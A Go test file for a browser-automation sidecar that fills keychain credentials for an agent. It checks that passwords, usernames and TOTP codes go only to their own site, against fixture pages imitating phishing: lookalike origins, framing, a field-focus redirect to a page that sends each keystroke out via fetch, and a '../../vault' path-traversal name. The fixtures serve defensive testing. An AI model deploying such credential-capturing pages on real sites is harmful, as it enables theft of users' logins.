package sidecar_test

import (
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/zalando/go-keyring"
)

// ring is a keychain that the owner has filled.
type ring map[string]string

func (r ring) Get(service, _ string) (string, error) {
	if value, ok := r[service]; ok {
		return value, nil
	}
	return "", keyring.ErrNotFound
}

func (ring) Set(string, string, string) error { return fs.ErrPermission }
func (ring) Delete(string, string) error      { return fs.ErrPermission }

const (
	keptPassword = "canary-Kept-4c!2%"
	keptUser     = "ada@example.com"
)

// bank signs in whoever knows the password and the code, and keeps what anybody sent.
type bank struct {
	*httptest.Server
	mu   sync.Mutex
	sent []string
}

func openBank(t *testing.T) *bank {
	t.Helper()
	b := &bank{}
	mux := http.NewServeMux()
	page := func(path, body string) {
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			_, port, _ := strings.Cut(r.Host, ":")
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			_, _ = fmt.Fprint(w, strings.NewReplacer("BANK", "http://localhost:"+port, "THIEF", "http://127.0.0.1:"+port).Replace(body))
		})
	}
	const form = `<form action=/in method=post><label>User <input name=user></label><label>Password <input id=pw name=password type=password></label>
		<label>Code <input name=code autocomplete=one-time-code></label><button>Sign in</button></form>
		<button onclick="pw.type = 'text'">Show</button>`
	page("/", `<!doctype html><title>Bank</title><style>input{font:20px monospace}</style>`+form)
	page("/frame", `<!doctype html><title>Win a prize</title><iframe src=BANK/ width=600 height=300></iframe>`)
	page("/holes", `<!doctype html><title>Bank</title><iframe src=THIEF/ width=600 height=300></iframe>`)
	page("/leave", `<!doctype html><title>Bank</title><label>Password <input onfocus="location = 'THIEF/ear'"></label>`)
	page("/ear", `<!doctype html><title>Ear</title><input id=ear autofocus oninput="fetch('/heard?' + encodeURIComponent(ear.value))">`)
	mux.HandleFunc("/in", func(w http.ResponseWriter, r *http.Request) {
		_ = r.ParseForm()
		b.mu.Lock()
		b.sent = append(b.sent, r.Host[:strings.IndexByte(r.Host, ':')]+" "+r.PostForm.Get("user")+" "+r.PostForm.Get("password")+" "+fmt.Sprint(len(r.PostForm.Get("code"))))
		b.mu.Unlock()
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = fmt.Fprintf(w, `<!doctype html><title>In</title><p>Welcome %s, your password is <b>%s</b>`, r.PostForm.Get("user"), r.PostForm.Get("password"))
	})
	mux.HandleFunc("/heard", func(_ http.ResponseWriter, r *http.Request) {
		b.mu.Lock()
		b.sent = append(b.sent, "heard "+r.URL.RawQuery)
		b.mu.Unlock()
	})
	b.Server = httptest.NewServer(mux)
	t.Cleanup(func() {
		b.CloseClientConnections()
		b.Close()
	})
	return b
}

// A login from the keychain, as an agent that knows nothing of it does it.
func TestACredentialGoesToItsSiteAndNowhereElse(t *testing.T) {
	t.Parallel()
	b := openBank(t)
	port := b.URL[strings.LastIndexByte(b.URL, ':')+1:]
	home, thief := "http://localhost:"+port, "http://127.0.0.1:"+port
	r := startWith(t, b.Server, ring{
		"credential-bank-login":      `{"username":"` + keptUser + `","password":"` + keptPassword + `","domain":"localhost"}`,
		"credential-bank-totp":       "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ",
		"credential-localhost-login": keptPassword,
		"credential-loose-login":     keptPassword,
		"credential-chase.com-login": keptPassword,
	}, "egress.allow=localhost:"+port+",127.0.0.1:"+port)
	var said strings.Builder
	send := func(path, body string) map[string]any {
		t.Helper()
		_, answer, raw := r.do("POST", path, body)
		said.Write(raw)
		return answer
	}
	read := func(what string) {
		t.Helper()
		for _, path := range []string{"/session/snapshot", "/session/text", "/session/status", "/session/tabs"} {
			_, answer, raw := r.do("GET", path, "")
			said.Write(raw)
			if answer["ok"] != true || strings.Contains(string(raw), "Kept") {
				t.Errorf("%s: %s says %.400s", what, path, raw)
			}
		}
	}
	fill := func(field, rest string) string {
		return `{"fields":[{"label":"` + field + `",` + rest + `}],"timeout_ms":1500,"screenshot":false}`
	}
	r.must("POST", "/session/start", `{"url":"`+thief+`","screenshot":false}`)

	for name, tt := range map[string]struct {
		url, body, code string
		says            []string
	}{
		"a page that only looks like it":      {thief + "/", fill("Password", `"credential":"bank"`), "FORBIDDEN", []string{"localhost", "127.0.0.1"}},
		"the bank in a frame of another site": {thief + "/frame", fill("Password", `"credential":"bank"`), "FORBIDDEN", []string{"localhost", "127.0.0.1"}},
		"another site in a frame of the bank": {home + "/holes", fill("Password", `"credential":"bank"`), "FORBIDDEN", []string{"localhost", "127.0.0.1"}},
		"the user name is bound too":          {thief + "/", fill("User", `"credential":"bank","part":"username"`), "FORBIDDEN", []string{"localhost"}},
		"and the code":                        {thief + "/", fill("Code", `"credential":"bank","part":"totp"`), "FORBIDDEN", []string{"localhost"}},
		"one that belongs nowhere":            {home + "/", fill("Password", `"credential":"loose"`), "FORBIDDEN", []string{"which site"}},
		"one of another site":                 {home + "/", fill("Password", `"credential":"chase.com"`), "FORBIDDEN", []string{"chase.com", "localhost"}},
		"one that is not there":               {home + "/", fill("Password", `"credential":"nobody"`), "NOT_FOUND", nil},
		"a part that is not there":            {home + "/", fill("User", `"credential":"localhost","part":"username"`), "NOT_FOUND", []string{"username"}},
		"a part that does not exist":          {home + "/", fill("User", `"credential":"bank","part":"pin"`), "INVALID_REQUEST", nil},
		"a value and a credential":            {home + "/", fill("User", `"credential":"bank","value":"x"`), "INVALID_REQUEST", []string{"both"}},
		"neither":                             {home + "/", fill("User", `"part":"totp"`), "INVALID_REQUEST", nil},
		"a name that is none":                 {home + "/", fill("User", `"credential":"../../vault"`), "INVALID_REQUEST", nil},
	} {
		r.must("POST", "/session/navigate", `{"url":"`+tt.url+`","screenshot":false}`)
		answer := send("/session/fill", tt.body)
		details, _ := answer["details"].(string)
		if answer["error"] != tt.code || answer["hint"] == "" {
			t.Errorf("%s: %v", name, answer)
		}
		for _, word := range tt.says {
			if !strings.Contains(details, word) {
				t.Errorf("%s: it does not say %q: %s", name, word, details)
			}
		}
		snapshot := r.must("GET", "/session/snapshot", "")["snapshot"].(string)
		if strings.Contains(snapshot, "‹hidden›") || strings.Contains(snapshot, "Kept") || strings.Contains(snapshot, keptUser) {
			t.Errorf("%s: something was typed: %s", name, snapshot)
		}
	}

	// A page that leaves the moment its field is touched.
	r.must("POST", "/session/navigate", `{"url":"`+home+`/leave","screenshot":false}`)
	send("/session/fill", fill("Password", `"credential":"bank"`))
	r.must("POST", "/session/wait", `{"url":"/ear","state":"load","screenshot":false}`)
	read("after the page left")

	// The whole login.
	r.must("POST", "/session/navigate", `{"url":"`+home+`/","screenshot":false}`)
	answer := send("/session/fill", `{"fields":[{"label":"User","credential":"bank","part":"username"},{"label":"Password","credential":"bank"},{"label":"Code","credential":"bank","part":"totp"}]}`)
	if answer["ok"] != true || answer["filled"] != 3.0 {
		t.Fatalf("%v", answer)
	}
	read("filled in")
	send("/session/click", `{"text":"Show"}`)
	read("shown in clear")
	if outline := r.must("GET", "/session/snapshot", "")["snapshot"].(string); !strings.Contains(outline, keptUser) || strings.Count(outline, "‹hidden›") != 2 {
		t.Errorf("the form reads %s", outline)
	}
	send("/session/click", `{"text":"Sign in"}`)
	read("echoed by the site")

	if want := []string{"localhost " + keptUser + " " + keptPassword + " 6"}; fmt.Sprint(b.sent) != fmt.Sprint(want) {
		t.Errorf("the sites got %q", b.sent)
	}
	if err := r.stop(); err != nil {
		t.Error(err)
	}
	kept := said.String() + r.log.String()
	err := fs.WalkDir(os.DirFS(r.dir), ".", func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || strings.HasPrefix(path, "run/") {
			return err
		}
		raw, err := fs.ReadFile(os.DirFS(r.dir), path)
		kept += string(raw)
		return err
	})
	if err != nil || !strings.Contains(kept, "session.fill") {
		t.Errorf("what is kept could not be read: %v", err)
	}
	for _, canary := range []string{"Kept", "GEZDGNBV"} {
		if i := strings.Index(kept, canary); i >= 0 {
			t.Errorf("%s is kept: …%s…", canary, kept[max(0, i-200):min(len(kept), i+50)])
		}
	}
}
